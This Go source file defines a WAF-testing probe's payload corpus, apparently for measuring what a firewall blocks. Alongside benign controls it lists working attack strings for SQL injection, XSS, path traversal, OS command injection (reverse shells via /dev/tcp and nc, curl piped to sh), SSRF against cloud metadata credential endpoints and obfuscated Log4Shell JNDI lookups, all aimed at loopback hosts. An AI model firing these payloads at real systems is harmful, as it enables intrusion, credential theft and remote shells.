package probe

// The waf probe's built-in corpus. Every payload is realistic attack text,
// but the probe only ever connects to the configured url: hosts named inside
// SSRF and JNDI payloads are loopback or link-local literals (127.0.0.1 and
// its decimal, hex and short spellings, ::1, localhost, 169.254.169.254) and
// are never dialled.

// Placements of a payload in the request.
const (
	wafInQuery    = "query"     // ?<name>=<value>
	wafInPath     = "path"      // <url path>/<value>; value is written already escaped
	wafInHeader   = "header"    // <name>: <value>
	wafInJSON     = "body-json" // {"<name>": "<value>"}
	wafInForm     = "body-form" // <name>=<value>
	wafInRawJSON  = "body-raw"  // value is the whole application/json body
	wafBenign     = "benign"
	wafDefaultArg = "" // use the spec's param
)

// wafPayload is one request of the corpus.
type wafPayload struct {
	Class string // one of wafClasses(), or wafBenign
	ID    string // stable, reported in missed and false_positives
	Place string
	Name  string // header name; query or body field (default: the spec's param)
	Value string
}

// wafClasses lists the malicious classes in report order.
func wafClasses() []string {
	return []string{"sqli", "xss", "path_traversal", "command_injection", "ssrf", "jndi"}
}

// wafCorpus returns the corpus (a fresh slice: no package-level mutable state).
func wafCorpus() []wafPayload {
	return []wafPayload{
		// SQL injection.
		{"sqli", "tautology-quote", wafInQuery, wafDefaultArg, `' OR '1'='1`},
		{"sqli", "tautology-numeric", wafInQuery, "id", `1 OR 1=1`},
		{"sqli", "comment-login", wafInForm, "username", `admin'--`},
		{"sqli", "union-select", wafInQuery, wafDefaultArg, `' UNION SELECT username, password FROM users--`},
		{"sqli", "union-null", wafInQuery, "id", `1' UNION ALL SELECT NULL,NULL,NULL-- -`},
		{"sqli", "stacked-drop", wafInQuery, "id", `1; DROP TABLE users--`},
		{"sqli", "blind-sleep", wafInQuery, "id", `1' AND SLEEP(5)-- -`},
		{"sqli", "blind-pg-sleep", wafInQuery, "id", `1';SELECT pg_sleep(5)--`},
		{"sqli", "mssql-waitfor", wafInQuery, wafDefaultArg, `'; WAITFOR DELAY '0:0:5'--`},
		{"sqli", "error-extractvalue", wafInQuery, "id", `1' AND extractvalue(1,concat(0x7e,(SELECT version())))-- -`},
		{"sqli", "information-schema", wafInQuery, wafDefaultArg, `' UNION SELECT table_name FROM information_schema.tables--`},
		{"sqli", "json-body", wafInJSON, "id", `1' OR '1'='1' -- `},
		{"sqli", "header-xff", wafInHeader, "X-Forwarded-For", `127.0.0.1' OR 1=1--`},
		{"sqli", "path-segment", wafInPath, "", `products/1%27%20OR%20%271%27%3D%271`},

		// Cross-site scripting.
		{"xss", "script-tag", wafInQuery, wafDefaultArg, `<script>alert(1)</script>`},
		{"xss", "img-onerror", wafInQuery, wafDefaultArg, `<img src=x onerror=alert(1)>`},
		{"xss", "svg-onload", wafInQuery, wafDefaultArg, `<svg/onload=alert(document.domain)>`},
		{"xss", "javascript-uri", wafInQuery, "redirect", `javascript:alert(document.cookie)`},
		{"xss", "attribute-breakout", wafInQuery, wafDefaultArg, `"><script>alert(1)</script>`},
		{"xss", "iframe-srcdoc", wafInQuery, wafDefaultArg, `<iframe srcdoc="<script>alert(1)</script>">`},
		{"xss", "body-onload", wafInQuery, wafDefaultArg, `<body onload=alert(1)>`},
		{"xss", "details-ontoggle", wafInQuery, wafDefaultArg, `<details open ontoggle=alert(1)>`},
		{"xss", "mixed-case", wafInQuery, wafDefaultArg, `<ScRiPt>alert(1)</sCrIpT>`},
		{"xss", "entity-encoded-uri", wafInQuery, wafDefaultArg, `<a href="&#106;avascript:alert(1)">x</a>`},
		{"xss", "json-body", wafInJSON, "comment", `<script>fetch('//127.0.0.1/?c='+document.cookie)</script>`},
		{"xss", "form-body", wafInForm, "name", `<img src=x onerror=alert(1)>`},
		{"xss", "header-referer", wafInHeader, "Referer", `"><script>alert(1)</script>`},
		{"xss", "path-segment", wafInPath, "", `search/%3Cscript%3Ealert(1)%3C%2Fscript%3E`},

		// Path traversal.
		{"path_traversal", "etc-passwd", wafInQuery, "file", `../../../../etc/passwd`},
		{"path_traversal", "windows-backslash", wafInQuery, "file", `..\..\..\windows\win.ini`},
		{"path_traversal", "double-encoded", wafInQuery, "file", `%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd`},
		{"path_traversal", "null-byte", wafInQuery, "file", "../../../etc/passwd\x00.png"},
		{"path_traversal", "nested-dots", wafInQuery, "file", `....//....//....//etc/passwd`},
		{"path_traversal", "proc-self-environ", wafInQuery, "file", `../../../../proc/self/environ`},
		{"path_traversal", "absolute-shadow", wafInQuery, "file", `/etc/shadow`},
		{"path_traversal", "json-body", wafInJSON, "path", `../../../../etc/passwd`},
		{"path_traversal", "path-dotdot", wafInPath, "", `static/../../../../etc/passwd`},
		{"path_traversal", "path-encoded-dots", wafInPath, "", `static/%2e%2e/%2e%2e/%2e%2e/etc/passwd`},
		{"path_traversal", "path-encoded-slash", wafInPath, "", `static/..%2f..%2f..%2fetc%2fpasswd`},
		{"path_traversal", "path-overlong-utf8", wafInPath, "", `static/..%c0%af..%c0%af..%c0%afetc/passwd`},
		{"path_traversal", "path-encoded-backslash", wafInPath, "", `static/..%5c..%5c..%5cwindows%5cwin.ini`},

		// OS command injection.
		{"command_injection", "semicolon-cat", wafInQuery, "host", `; cat /etc/passwd`},
		{"command_injection", "pipe-id", wafInQuery, "host", `| id`},
		{"command_injection", "and-whoami", wafInQuery, "host", `&& whoami`},
		{"command_injection", "backticks", wafInQuery, "host", "`id`"},
		{"command_injection", "subshell", wafInQuery, "host", `$(cat /etc/passwd)`},
		{"command_injection", "newline", wafInQuery, "host", "127.0.0.1\nid"},
		{"command_injection", "ifs-bypass", wafInQuery, "host", `;cat${IFS}/etc/passwd`},
		{"command_injection", "reverse-shell", wafInQuery, "host", `; bash -i >& /dev/tcp/127.0.0.1/4444 0>&1`},
		{"command_injection", "curl-pipe-sh", wafInQuery, "host", `$(curl -s http://127.0.0.1/x.sh | sh)`},
		{"command_injection", "windows-type", wafInQuery, "host", `& type C:\Windows\win.ini`},
		{"command_injection", "shellshock-ua", wafInHeader, "User-Agent", `() { :; }; /bin/bash -c 'cat /etc/passwd'`},
		{"command_injection", "json-body", wafInJSON, "host", `127.0.0.1; nc -e /bin/sh 127.0.0.1 4444`},
		{"command_injection", "form-body", wafInForm, "ip", `127.0.0.1 | id`},

		// Server-side request forgery.
		{"ssrf", "aws-metadata", wafInQuery, "url", `http://169.254.169.254/latest/meta-data/iam/security-credentials/`},
		{"ssrf", "azure-metadata", wafInQuery, "url", `http://169.254.169.254/metadata/instance?api-version=2021-02-01`},
		{"ssrf", "gcp-metadata", wafInQuery, "url", `http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token`},
		{"ssrf", "localhost-admin", wafInQuery, "url", `http://localhost/admin`},
		{"ssrf", "loopback-redis", wafInQuery, "url", `http://127.0.0.1:6379/`},
		{"ssrf", "ipv6-loopback", wafInQuery, "url", `http://[::1]:22/`},
		{"ssrf", "decimal-ip", wafInQuery, "url", `http://2130706433/`},
		{"ssrf", "hex-ip", wafInQuery, "url", `http://0x7f000001/`},
		{"ssrf", "short-ip", wafInQuery, "url", `http://127.1/`},
		{"ssrf", "gopher-redis", wafInQuery, "url", `gopher://127.0.0.1:6379/_INFO`},
		{"ssrf", "file-scheme", wafInQuery, "url", `file:///etc/passwd`},
		{"ssrf", "dict-scheme", wafInQuery, "url", `dict://127.0.0.1:11211/stats`},
		{"ssrf", "json-webhook", wafInJSON, "webhook_url", `http://169.254.169.254/latest/meta-data/`},
		{"ssrf", "form-callback", wafInForm, "callback", `http://127.0.0.1:8080/internal`},

		// Log4Shell-style JNDI lookups.
		{"jndi", "user-agent", wafInHeader, "User-Agent", `${jndi:ldap://127.0.0.1:1389/a}`},
		{"jndi", "x-api-version", wafInHeader, "X-Api-Version", `${jndi:ldap://127.0.0.1:1389/a}`},
		{"jndi", "referer", wafInHeader, "Referer", `${jndi:ldap://localhost:1389/a}`},
		{"jndi", "x-forwarded-for-rmi", wafInHeader, "X-Forwarded-For", `${jndi:rmi://127.0.0.1:1099/a}`},
		{"jndi", "lower-lookup", wafInHeader, "User-Agent", `${${lower:j}ndi:${lower:l}dap://127.0.0.1:1389/a}`},
		{"jndi", "env-default", wafInHeader, "X-Request-Id", `${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//127.0.0.1:1389/a}`},
		{"jndi", "query", wafInQuery, wafDefaultArg, `${jndi:ldap://127.0.0.1:1389/a}`},
		{"jndi", "query-dns", wafInQuery, wafDefaultArg, `${jndi:dns://localhost/a}`},
		{"jndi", "query-default-values", wafInQuery, wafDefaultArg, `${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://127.0.0.1:1099/a}`},
		{"jndi", "query-ldaps-ipv6", wafInQuery, wafDefaultArg, `${jndi:ldaps://[::1]:1636/a}`},
		{"jndi", "json-body", wafInJSON, "username", `${jndi:ldap://127.0.0.1:1389/a}`},
		{"jndi", "form-body", wafInForm, "username", `${jndi:${lower:l}${lower:d}a${lower:p}://127.0.0.1:1389/a}`},
		{"jndi", "path-segment", wafInPath, "", `%24%7Bjndi%3Aldap%3A%2F%2F127.0.0.1%3A1389%2Fa%7D`},

		// Benign controls: what real users send, including text that naive
		// rules mistake for attacks.
		{wafBenign, "search", wafInQuery, wafDefaultArg, `running shoes`},
		{wafBenign, "apostrophe-name", wafInQuery, wafDefaultArg, `O'Brien`},
		{wafBenign, "accented-name", wafInQuery, "name", `José García-Müller`},
		{wafBenign, "percent", wafInQuery, wafDefaultArg, `50% off winter jackets`},
		{wafBenign, "quoted-phrase", wafInQuery, wafDefaultArg, `"machine learning" books`},
		{wafBenign, "ampersand", wafInQuery, wafDefaultArg, `rock & roll`},
		{wafBenign, "select-word", wafInQuery, wafDefaultArg, `please select a size`},
		{wafBenign, "or-word", wafInQuery, wafDefaultArg, `1 or 2 tickets`},
		{wafBenign, "code-question", wafInQuery, wafDefaultArg, `how to use a for loop in go`},
		{wafBenign, "form-email", wafInForm, "email", `jane.doe+news@example.com`},
		{wafBenign, "json-review", wafInRawJSON, "", `{"name":"Dana O'Reilly","comment":"Great product, would buy again!","rating":5}`},
		{wafBenign, "json-order", wafInRawJSON, "", `{"order":{"items":[{"sku":"A-100","qty":2}],"note":"leave it at the door"}}`},
		{wafBenign, "browser-user-agent", wafInHeader, "User-Agent", `Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36`},
		{wafBenign, "referer", wafInHeader, "Referer", `https://www.example.com/products?id=42&sort=price`},
		{wafBenign, "path-id", wafInPath, "", `products/42`},
		{wafBenign, "path-file", wafInPath, "", `files/report-2024.pdf`},
	}
}
